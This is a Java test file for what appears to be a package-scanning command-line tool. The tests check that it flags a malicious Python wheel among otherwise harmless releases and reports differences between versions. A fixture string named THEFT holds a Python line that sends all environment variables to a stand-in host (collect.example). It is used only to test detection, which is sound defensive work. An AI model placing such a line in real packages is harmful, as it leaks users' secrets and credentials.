package dev.assay.cli.command;

import static dev.assay.cli.LoopbackIndex.zip;
import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.cli.LoopbackIndex;
import dev.assay.cli.Run;
import dev.assay.core.document.Node;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Releases of an index on this machine, scanned and compared.
class IndexReleasesTest {
  private static final String HARMLESS = "def add(left, right):\n    return left + right\n";
  private static final String LOUD =
      """
      import urllib.request
      urllib.request.urlopen("https://collect.example/in", b"hello")
      """;
  private static final String THEFT =
      """
      import os, urllib.request
      urllib.request.urlopen("https://collect.example/in", str(dict(os.environ)).encode())
      """;

  @TempDir private Path home;
  @TempDir private Path folder;
  private LoopbackIndex index;

  @BeforeEach
  void publish() throws IOException {
    index = new LoopbackIndex();
    index.publish("acme", "acme-1.0.zip", zip(Map.of("acme-1.0/acme/__init__.py", HARMLESS)));
    index.publish("acme", "acme-1.0-py3-none-any.whl", wheel(HARMLESS));
    index.publish("acme", "acme-1.1.zip", zip(Map.of("acme-1.1/acme/__init__.py", HARMLESS)));
    index.publish("acme", "acme-1.1-py3-none-any.whl", wheel(HARMLESS));
    index.publish("acme", "acme-1.1-py3-none-win_amd64.whl", wheel(THEFT));
    index.publish("acme", "acme-2.0rc1-py3-none-any.whl", wheel(HARMLESS));
  }

  @AfterEach
  void stop() {
    index.close();
  }

  private static byte[] wheel(String code) throws IOException {
    return zip(Map.of("acme/__init__.py", code));
  }

  @Test
  void allFilesOfTheNewestReleaseGiveOneVerdict() throws IOException {
    Run run = run("scan", "--format", "json", "pypi:Acme");
    assertThat(run.code()).isEqualTo(1);
    List<Node> objects = run.objects();
    assertThat(objects)
        .extracting(it -> it.text("artifact").or(() -> it.text("release")).orElseThrow())
        .containsExactly(
            "pypi:Acme/acme-1.1.zip",
            "pypi:Acme/acme-1.1-py3-none-any.whl",
            "pypi:Acme/acme-1.1-py3-none-win_amd64.whl",
            "pypi:Acme");
    assertThat(objects)
        .extracting(it -> it.text("verdict").orElseThrow())
        .containsExactly("admit", "admit", "deny", "deny");
    assertThat(run.out()).contains("sibling-difference", "\"version\":\"1.1\"");
    try (Stream<Path> left = Files.list(home.resolve("cache/assay"))) {
      assertThat(left.filter(it -> it.getFileName().toString().startsWith("scratch"))).isEmpty();
    }
  }

  @Test
  void aReleaseMayBeNamed() {
    Run run = run("scan", "pypi:acme==1.0");
    assertThat(run.code()).isZero();
    assertThat(run.out())
        .contains("admit  0.00  pypi:acme==1.0  the release: 2 files")
        .contains("2 judged: 0 denied, 0 held, 2 admitted");
    assertThat(index.asked())
        .contains("/files/acme-1.0.zip", "/files/acme-1.0-py3-none-any.whl")
        .doesNotContain("/files/acme-1.1.zip");
  }

  @Test
  void otherBytesThanTheIndexStatesAreNotRead() throws IOException {
    index.publish("bad", "bad-1.0-py3-none-any.whl", wheel(HARMLESS), "0".repeat(64));
    Run run = run("scan", "pypi:bad");
    assertThat(run.code()).isEqualTo(3);
    assertThat(flat(run)).contains("its sha256 is", "the index states 000", "1 of 1 could not");
  }

  @Test
  void whatIsNotThereIsHeldAndEndsNothing() {
    Run run = run("scan", "pypi:absent", "pypi:acme==9", "pypi:acme==1.0");
    assertThat(run.code()).isEqualTo(3);
    assertThat(run.out())
        .contains("there is no such project on the index")
        .contains("the index has no file of such a version")
        .contains("admit  0.00  pypi:acme==1.0");
  }

  @Test
  void aNameThatCannotBeOneIsWrongUse() {
    assertThat(run("scan", "pypi:a b").code()).isEqualTo(2);
    assertThat(run("diff", "pypi:acme==one", "pypi:acme").err()).contains("names no release");
  }

  @Test
  void siblingsOnTheCommandLineAreComparedToo() throws IOException {
    Files.write(folder.resolve("acme-1.0-py3-none-any.whl"), wheel(HARMLESS));
    Files.write(folder.resolve("acme-1.0-py3-none-win32.whl"), wheel(LOUD));
    Run run = run("scan", ".");
    assertThat(run.out()).contains("of the same release does not", "(sibling-difference)");
    assertThat(run.out()).contains("2 judged: 0 denied, 1 held, 1 admitted");
  }

  @Test
  void releasesAreComparedFileByFile() {
    Run run = run("diff", "--format", "json", "pypi:acme==1.0", "pypi:acme==1.1");
    assertThat(run.code()).isEqualTo(1);
    List<Node> changes = run.objects();
    assertThat(changes)
        .extracting(it -> it.text("from").orElseThrow())
        .containsExactly(
            "pypi:acme==1.0/acme-1.0.zip",
            "pypi:acme==1.0/acme-1.0-py3-none-any.whl",
            "pypi:acme==1.0/acme-1.0-py3-none-any.whl");
    assertThat(changes)
        .extracting(it -> it.text("verdict").orElseThrow())
        .containsExactly("admit", "admit", "deny");
  }

  @Test
  void aFileHereIsComparedWithTheReleaseBefore() throws IOException {
    Files.write(folder.resolve("acme-1.1-py3-none-any.whl"), wheel(THEFT));
    Run run = run("diff", "pypi:acme==1.0", "acme-1.1-py3-none-any.whl");
    assertThat(run.code()).isEqualTo(1);
    assertThat(run.out()).contains("gained   import: sends https://collect.example/in");
    assertThat(flat(run("diff", "pypi:absent", "acme-1.1-py3-none-any.whl")))
        .contains("the earlier artifact: there is no such project on the index");
  }

  private static String flat(Run run) {
    return run.out().replaceAll("\\s+", " ");
  }

  private Run run(String... arguments) {
    return Run.in(folder, home, index.environment(), arguments);
  }
}
